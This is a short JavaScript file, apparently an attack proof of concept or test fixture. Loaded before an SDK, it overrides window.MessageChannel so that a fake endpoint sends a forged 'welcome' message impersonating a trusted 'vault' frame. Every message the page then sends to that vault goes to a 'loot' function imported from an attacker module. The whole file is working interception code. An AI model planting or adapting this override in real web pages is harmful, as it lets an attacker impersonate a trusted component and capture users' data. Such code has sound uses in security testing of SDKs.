// Before the SDK: answers in place of the vault's frame, whatever the page asks there.
import { loot } from "./attacker.js";

const Native = window.MessageChannel;
const welcome = {
  wire: 1,
  lock: "x",
  state: JSON.stringify({ status: "signedOut", reason: "no_session" }),
};

window.MessageChannel = class {
  constructor() {
    const { port1, port2 } = new Native();
    const vault = new Native();
    vault.port1.onmessage = ({ data }) => loot("stands in for the vault", ["asked", data]);
    port2.postMessage({ type: "welcome", welcome, generation: 0 }, [vault.port2]);
    this.port1 = port1;
    this.port2 = new Native().port2;
  }
};
